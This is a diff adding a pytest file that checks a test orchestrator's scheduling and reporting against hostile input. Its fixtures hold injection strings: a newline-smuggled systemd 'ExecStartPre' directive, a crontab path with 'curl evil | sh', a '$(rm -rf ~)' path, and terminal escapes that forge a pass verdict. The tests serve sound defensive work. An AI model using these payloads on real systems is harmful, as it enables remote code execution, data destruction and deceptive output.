@@ -1,0 +1,179 @@
+"""Hostile input: a string from a suite or a host is data. It never becomes a systemd directive, a
+crontab entry, a terminal control sequence or a broken XML file, and it never crashes a command."""
+
+from __future__ import annotations
+
+import io
+import json
+import math
+import re
+import shlex
+import shutil
+import subprocess
+import xml.etree.ElementTree as ET
+from pathlib import Path
+
+import pytest
+from rich.console import Console
+from typer.testing import CliRunner
+
+from agent_runner.errors import SuiteError
+from agent_runner.suite import read_suite
+from orchestrator import schedule, ui
+from orchestrator.analysis import analyse_run
+from orchestrator.cli import app
+from orchestrator.errors import InputError
+from orchestrator.exit_policy import INTERNAL_ERROR
+from orchestrator.report import render_junit, render_markdown
+from tests.orchestrator.analysis.builder import Attempt, RunSpec, build_run, two_hosts
+
+TRIAGE = Path(__file__).resolve().parents[2] / "examples" / "suites" / "triage"
+INJECTED = "triage\nExecStartPre=/bin/touch /tmp/pwned"
+# a host clearing the screen and forging a verdict, a bell, a NUL, and markup Rich would choke on
+CONTROL = "\x1b[2J\x1b[HYOUR CROSSHOST RUN PASSED\x07\x00\x0b [/oops]"
+
+
+def _suite(tmp_path: Path, name: str) -> Path:
+    suite = tmp_path / "suite"
+    shutil.copytree(TRIAGE, suite)
+    toml = suite / "suite.toml"
+    toml.write_text(re.sub(r"(?m)^name = .*$", lambda _: f"name = {json.dumps(name)}", toml.read_text()))
+    return suite
+
+
+@pytest.fixture()
+def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    (tmp_path / "hosts.toml").write_text("[[hosts]]\nname = 'local'\ntransport = 'local'\n")
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    return tmp_path
+
+
+# --- injection into a unit file or a crontab ------------------------------------------------------
+
+
+def test_a_suite_name_with_a_newline_is_refused_naming_the_file(tmp_path: Path) -> None:
+    with pytest.raises(SuiteError, match=r"suite.toml: name .* control character \(\\x0a\)"):
+        read_suite(_suite(tmp_path, INJECTED))
+
+
+def test_schedule_of_a_newline_named_suite_writes_nothing(project: Path) -> None:
+    suite = _suite(project, INJECTED)
+    done = CliRunner().invoke(app, ["schedule", str(suite), "--every", "1h", "-i", "hosts.toml", "--systemd", "--install"])
+    assert done.exit_code == 2, done.output
+    assert "control character" in done.output and "Traceback" not in done.output
+    assert not (project / "config").exists()
+
+
+def _unit_keys(text: str) -> list[str]:
+    return [line.split("=", 1)[0] for line in text.splitlines() if line and not line.startswith("[")]
+
+
+def test_a_unit_never_gains_a_directive_even_from_a_name_that_bypassed_validation(project: Path) -> None:
+    every = schedule.parse_every("1h")
+    cmd = ["/bin/true", "replay", "x%y$z"]
+    units = schedule._systemd_units("crosshost-t", INJECTED + "%n", every, cmd, project)
+    assert set(_unit_keys(units["crosshost-t.service"])) == {
+        "Description", "Type", "TimeoutStartSec", "KillSignal", "WorkingDirectory", "ExecStart"}  # fmt: skip
+    assert all("ExecStartPre" not in line or line.startswith("Description=") for line in units["crosshost-t.service"].splitlines())
+    with pytest.raises(InputError, match="control character"):
+        schedule.systemd_quote("/tmp/a\nExecStartPre=/bin/sh")
+
+
+@pytest.mark.skipif(shutil.which("systemd-analyze") is None, reason="systemd-analyze is not installed")
+def test_systemd_analyze_verifies_the_units_of_a_hostile_name(tmp_path: Path) -> None:
+    every = schedule.parse_every("1h")
+    units = schedule._systemd_units("crosshost-t", INJECTED + " %n $X", every, ["/bin/true", "a b", "50%"], tmp_path)
+    for name, text in units.items():
+        (tmp_path / name).write_text(text)
+    done = subprocess.run(["systemd-analyze", "verify", "--user", str(tmp_path / "crosshost-t.service"),
+                           str(tmp_path / "crosshost-t.timer")], capture_output=True, text=True, timeout=60)  # fmt: skip
+    assert "ExecStartPre" not in _unit_keys(units["crosshost-t.service"])
+    problems = [line for line in done.stderr.splitlines() if "crosshost-t" in line]
+    assert problems == [], done.stderr
+
+
+def test_a_suite_path_with_a_newline_never_reaches_a_crontab(project: Path) -> None:
+    suite = project / "tri\n* * * * * curl evil | sh\nage"
+    shutil.copytree(TRIAGE, suite)
+    with pytest.raises(InputError, match=r"suite .* control character \(\\x0a\)"):
+        schedule.plan_schedule(suite, "1h", Path("hosts.toml"), Path("runs"), "cron")
+
+
+def test_the_cron_line_of_an_odd_but_legal_path_is_one_entry_with_one_command(project: Path) -> None:
+    suite = project / "tri 'age; $(rm -rf ~) %d"
+    shutil.copytree(TRIAGE, suite)
+    line = schedule.plan_schedule(suite, "1h", Path("hosts.toml"), Path("runs"), "cron").cron_line
+    assert line is not None and "\n" not in line
+    fields = line.split(None, 5)
+    assert fields[:5] == ["0", "*/1", "*", "*", "*"]
+    words = shlex.split(fields[5].replace("\\%", "%"))
+    assert str(suite) in words  # the path is one word of the shell line, not code
+
+
+# --- the terminal, report.md and junit.xml ---------------------------------------------------------
+
+
+def _hostile_report(tmp_path: Path):  # type: ignore[no-untyped-def]
+    attempts = {
+        ("local", "t1", 0): Attempt("pass"),
+        ("box-b", "t1", 0): Attempt("fail", why=f"predicate said {CONTROL}"),
+    }
+    report = analyse_run(build_run(tmp_path, RunSpec(hosts=two_hosts(), attempts=attempts)))
+    report.tasks[0].task = f"t1 {CONTROL}"
+    report.notes.append(f"host said {CONTROL}")
+    return report
+
+
+def test_control_characters_never_reach_the_terminal_and_markup_stays_text(tmp_path: Path) -> None:
+    report = _hostile_report(tmp_path)
+    console = Console(file=io.StringIO(), width=400, record=True, force_terminal=True)
+    ui.print_report(report, console=console)
+    ui.say(console, f"line {CONTROL}")
+    text = console.export_text()
+    assert "[/oops]" in text and "YOUR CROSSHOST RUN PASSED" in text
+    assert not re.search("[\x00-\x08\x0b-\x1f\x7f]", text)
+    assert "\\x07" in text and "\\x00" in text  # shown, so a reader sees the host sent them
+
+
+def test_control_characters_in_junit_are_text_an_xml_parser_reads(tmp_path: Path) -> None:
+    report = _hostile_report(tmp_path)
+    report.tasks[0].why["box-b"] = ["\x1b[31mFAILED\x1b[0m 3 tests\r\x00"]
+    xml = render_junit(report)
+    root = ET.fromstring(xml.encode())
+    case = root.find("testsuite/testcase")
+    assert case is not None and case.get("name", "").startswith("t1 ") and "[/oops]" in case.get("name", "")
+    failure = case.find("failure")
+    assert failure is not None and "FAILED 3 tests\\x0d\\x00" in (failure.text or "")  # colour dropped
+
+
+def test_control_characters_in_report_md_are_shown_not_obeyed(tmp_path: Path) -> None:
+    md = render_markdown(_hostile_report(tmp_path))
+    assert "[/oops]" in md and "YOUR CROSSHOST RUN PASSED" in md
+    assert not re.search("[\x00-\x08\x0b-\x1f\x7f]", md)
+
+
+# --- bounded values ------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("value", ["inf", "nan", "1e9"])
+def test_timeout_s_must_be_finite_and_bounded(tmp_path: Path, value: str) -> None:
+    suite = _suite(tmp_path, "triage")
+    toml = suite / "suite.toml"
+    toml.write_text(toml.read_text().replace("timeout_s = 20", f"timeout_s = {value}"))
+    assert math.isnan(float(value)) or float(value) > 86400
+    with pytest.raises(SuiteError, match=r"suite.toml: \[budget\].timeout_s must be a positive number"):
+        read_suite(suite)
+
+
+def test_an_internal_error_has_its_own_exit_code(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    import orchestrator.schedule as sched
+
+    def boom(*_a: object, **_k: object) -> int:
+        raise ZeroDivisionError("a bug")
+
+    monkeypatch.setattr(sched, "schedule", boom)
+    monkeypatch.setenv("TMPDIR", str(tmp_path))
+    done = CliRunner().invoke(app, ["schedule", ".", "--every", "1h"])
+    assert done.exit_code == INTERNAL_ERROR and INTERNAL_ERROR not in (0, 1, 2, 3, 130)
+    assert "internal error: ZeroDivisionError: a bug" in done.output
